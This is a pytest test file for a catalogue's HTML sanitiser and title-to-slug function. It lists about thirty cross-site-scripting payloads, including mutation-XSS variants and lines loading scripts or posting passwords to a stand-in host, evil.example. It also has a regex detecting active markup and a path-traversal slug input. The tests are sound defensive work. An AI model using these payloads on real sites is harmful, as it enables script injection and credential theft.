"""What staff write, and what is left of it when it is meant badly."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.catalog.slugs import MAX_SLUG, derived
from shared.catalog.texts import one_line, sanitised

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<body onload=alert(1)>",
    # What becomes script only when a browser parses it a second time.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href='https://x.example' target=_blank onclick=alert(1)>x</a>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src='https://x.example/a.png' srcset='javascript:alert(1)'>",
    "<button formaction=javascript:alert(1)>x</button>",
]
ACTS = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|body|template|noscript)\b"
    r"|<[^>]*\son\w+\s*=|<[^>]*(javascript|vbscript|data)\s*:|<[^>]*\s(style|srcset|srcdoc|formaction|target)\s*=|<!",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_is_left(html: str) -> None:
    clean = sanitised(f"<p>avant</p>{html}<p>après</p>")
    assert not ACTS.search(clean), clean
    assert sanitised(clean) == clean


def test_what_texts_are_made_of_stays() -> None:
    html = (
        '<h2>Bol</h2><p dir="rtl">Tourné <strong>à la main</strong>, <em>bleu</em> &amp; blanc.</p>'
        "<ul><li>450 g</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>"
        '<img src="https://x.example/a.webp" alt="Un bol">'
    )
    assert sanitised(html) == html


def test_links_give_nothing_away() -> None:
    assert sanitised('<a href="https://x.example">x</a>') == (
        '<a href="https://x.example" rel="noopener noreferrer nofollow">x</a>'
    )


def test_nothing_turns_the_text_around() -> None:
    assert sanitised("<p>a\u202eb&#x202e;c\u2066</p>") == "<p>abc</p>"
    assert one_line("\u202eabc\u2069\ufeff \u200bd\te\u2028f\x07") == "abc d e f"


def test_emoji_and_other_scripts_are_left_alone() -> None:
    for text in ("👩‍🍳 thé", "قهوة", "می‌خواهم", "日本のお茶", "naïve œuvre ß"):
        assert one_line(text) == text


@given(st.text(max_size=200))
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert one_line(one_line(text)) == one_line(text)
    assert sanitised(sanitised(text)) == sanitised(text)


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Café « Sablon » — 500 g", "cafe-sablon-500-g"),
        ("Œuvre d’Été & Straße", "oeuvre-d-ete-strasse"),
        ("Þórður Ørsted", "thordur-orsted"),
        ("Крем", "krem"),
        ("\u202e../../etc/passwd", "etc-passwd"),
        ("!!!", "products"),
        ("🫖", "products"),
    ],
)
def test_slugs_are_transliterated_from_titles(title: str, slug: str) -> None:
    assert derived(title, "products") == slug


@given(st.text(max_size=400))
def test_a_slug_is_always_one(title: str) -> None:
    slug = derived(title, "products")
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slug)
    assert len(slug) <= MAX_SLUG
